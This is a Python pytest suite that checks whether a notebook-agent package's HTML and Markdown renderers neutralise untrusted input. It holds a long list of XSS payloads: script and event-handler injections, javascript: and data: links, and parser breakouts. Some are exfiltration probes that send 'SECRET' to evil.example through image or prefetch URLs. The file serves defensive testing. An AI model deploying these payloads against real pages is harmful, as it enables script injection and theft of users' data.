"""No text from outside becomes anything but text, in whatever field, whatever the renderer."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import pytest

from nbagents.message import Msg
from nbagents.render import (
    AgentCardView,
    ErrorView,
    LaneView,
    MemoryView,
    RowView,
    RunView,
    SectionView,
    TableView,
    agent_line_html,
    banner_html,
    clean_html,
    error_html,
    markdown_to_html,
    memory_html,
    message_html,
    page_html,
    run_html,
    table_html,
    text_to_html,
)

HIT = "window.__xss=1"
VECTORS = [
    # Elements and handlers.
    f"<script>{HIT}</script>",
    f"<ScRiPt>{HIT}</sCrIpT>",
    f"<script src=//evil.example/x.js></script><script>{HIT}",
    f"<img src=x onerror={HIT}>",
    f"<img/src/onerror={HIT}>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{HIT}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x><script>{HIT}</script></svg>#x'></svg>",
    f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}><summary>x</summary></details>",
    f"<input autofocus onfocus={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<iframe src='javascript:{HIT}'></iframe>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<object data='javascript:{HIT}'></object>",
    f"<embed src='javascript:{HIT}'>",
    f"<form action='javascript:{HIT}'><button>x</button></form>",
    f"<button formaction='javascript:{HIT}'>x</button>",
    f"<isindex action='javascript:{HIT}' type=submit>",
    f"<a href='javascript:{HIT}'>x</a>",
    f"<a href='data:text/html,<script>{HIT}</script>'>x</a>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=prefetch href='https://evil.example/?d=SECRET'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<div style='position:fixed;inset:0;z-index:9999'>pay here</div>",
    "<button data-commandlinker-command='terminal:create-new' data-commandlinker-args='{}'>x</button>",
    "<a id=nbagents name=jupyterapp href='#'>clobber</a>",
    "<form id=document><input name=cookie></form>",
    # Breaking out of a place or of a parser.
    f'<img src="x" onerror="{HIT}" /',
    f"\"><script>{HIT}</script>",
    f"'><img src=x onerror={HIT}>",
    f"\" onmouseover=\"{HIT}",
    f"' autofocus onfocus='{HIT}' x='",
    f"</style><script>{HIT}</script>",
    f"</section></article></div><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"<!--><script>{HIT}</script>-->",
    f"<![CDATA[><script>{HIT}</script>]]>",
    f"<?xml version='1.0'?><script>{HIT}</script>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={HIT}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={HIT}>'>",
    f"<template><script>{HIT}</script></template>",
    f"<xmp><img src=x onerror={HIT}></xmp>",
    f"\x00<scr\x00ipt>{HIT}</script>",
    f"\x1b[31m<script>{HIT}</script>\x1b]8;;javascript:{HIT}\x07link\x1b]8;;\x07",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;script&#62;{HIT}&#60;/script&#62;",
    f"\ud800<script>{HIT}</script>",
    f"\u202e<script>{HIT}</script>",
    # Through Markdown.
    f"[x](javascript:{HIT})",
    f"[x](JaVaScRiPt:{HIT})",
    f"[x](java\tscript:{HIT})",
    f"[x](&#106;avascript:{HIT})",
    f"[x](javascript&colon;{HIT})",
    f"[x](\\javascript:{HIT})",
    f"[x](vbscript:{HIT})",
    f"[x](data:text/html,<script>{HIT}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    f"<javascript:{HIT}>",
    f"[x]: javascript:{HIT}\n\n[x]",
    f"[x](https://a.example \"onclick={HIT}\")",
    f"[x](https://a.example/\"onclick=\"{HIT})",
    f"[x](<https://a.example/><img src=x onerror={HIT}>)",
    "[x](file:///etc/passwd)",
    "[x](/api/shutdown)",
    "[x](//evil.example/)",
    "[x](#jp-main)",
    "![x](https://evil.example/p.png?d=SECRET)",
    "![x](//evil.example/p.png)",
    f"![x](javascript:{HIT})",
    f"![x\" onerror=\"{HIT}](https://evil.example/p.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x][r]\n\n[r]: https://evil.example/r.png?d=SECRET",
    "[![x](https://evil.example/p.png)](https://evil.example/)",
    f"`<script>{HIT}</script>`",
    f"```html\n<script>{HIT}</script>\n```",
    f"```\"><img src=x onerror={HIT}>\nx\n```",
    f"| <img src=x onerror={HIT}> |\n|--|\n| [x](javascript:{HIT}) |",
    f"$<img src=x onerror={HIT}>$ and $$\n<script>{HIT}</script>\n$$",
    f"\\(\\href{{javascript:{HIT}}}{{x}}\\)",
    f"# <img src=x onerror={HIT}>",
    f"1. > - <svg onload={HIT}>",
]  # fmt: skip


def _run(v: str, live: bool) -> str:
    error = ErrorView(v, v, v, v)
    row = RowView(v, v, 0, "failed", 1.0, 3, v, False, error, v, v)
    growing = RowView(v, v, 9, "running", 1.0, 3, v, True, None, v, v, live=True)
    long = RowView(v, "\n\n".join([v] * 14), None, "done", model=v)
    lanes = (LaneView(v, 0, ((0.0, 1.0, v), (1.0, 2.0, "tool"))), LaneView(v, 1, ((0.5, 2.0, "model"),)))
    view = RunView(
        v, "running", 1.0, (row, SectionView(v), growing, long), f"{v} {{{v}}}", ((v, v), ("b", v)), (v,),
        lanes,        saved=v, cost=v, outcome=v, error=error, announcement=v,
    )  # fmt: skip
    return run_html(view, live)


RENDERERS: dict[str, Callable[[str], str]] = {
    "markdown": markdown_to_html,
    "text": text_to_html,
    "clean": clean_html,
    "run": lambda v: _run(v, False),
    "live run": lambda v: _run(v, True),
    "error": lambda v: error_html(ErrorView(v, v, v, v)),
    "line": lambda v: agent_line_html(AgentCardView(v, 3, v, True)),
    "banner": lambda v: banner_html([v, v], [v]),
    "table": lambda v: table_html(TableView((v, v), ((v, v), (v,)), v, (0, None))),
    "message": lambda v: message_html(Msg(v, v, url=[v, f"https://a.example/{v}"])),
    "blocks": lambda v: message_html(
        Msg("a", [{"type": "text", "text": v}, {"type": "image", "url": v}, {"type": v, v: v}])
    ),
    "json": lambda v: message_html(Msg("a", {v: [v, {v: None}]})),
    "memory": lambda v: memory_html(MemoryView(v, 1, v, (Msg(v, v), Msg("b", [v])))),
    "page": lambda v: page_html(v, [("markdown", v), ("code", v), ("html", v), ("text", v)]),
    "page of a run": lambda v: page_html(v, [("html", _run(v, False))]),
}


@pytest.mark.parametrize("renderer", RENDERERS)
def test_a_vector_is_only_text(renderer: str, read: Callable[[str], Any]):
    for vector in VECTORS:
        reading = read(RENDERERS[renderer](vector))
        assert reading.findings == [], vector


def test_the_reading_finds_what_it_should(read: Callable[[str], Any]):
    """Guards the guard: raw vectors of HTML are found, all of them."""
    raw = [v for v in VECTORS[:35] if not read(v).findings]
    assert raw == []


def test_the_words_of_a_message_are_not_lost(read: Callable[[str], Any]):
    reading = read(run_html(RunView("r", rows=(RowView("a", f"<script>{HIT}</script>"),))))
    assert f"<script>{HIT}</script>" in reading.text


def _pages() -> Iterator[str]:
    for name, renderer in RENDERERS.items():
        yield f"<h1>{name}</h1>" + "".join(
            renderer(vector).encode("utf-8", "replace").decode() for vector in VECTORS
        )


@pytest.mark.browser
def test_nothing_runs_and_nothing_is_fetched(chromium: Any):
    page = chromium.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(dialog.message))
    page.goto("about:blank")
    for html in _pages():
        # As a notebook does it: into a living page, with its scripts then made to run.
        page.evaluate(
            """html => {
                const box = document.createElement("div");
                box.innerHTML = html;
                document.body.replaceChildren(box);
                for (const old of box.querySelectorAll("script")) {
                    const fresh = document.createElement("script");
                    fresh.text = old.text;
                    old.replaceWith(fresh);
                }
                for (const each of box.querySelectorAll("details")) each.open = true;
                for (const each of box.querySelectorAll("*")) each.dispatchEvent(new Event("mouseover"));
            }""",
            html,
        )
        page.wait_for_function("document.readyState === 'complete'")
        assert page.evaluate("window.__xss") is None, html[:40]
        assert page.evaluate("document.querySelectorAll('script, iframe, form, [onclick]').length") == 0
    page.close()
    assert [url for url in asked if not url.startswith(("about:", "data:image/"))] == []
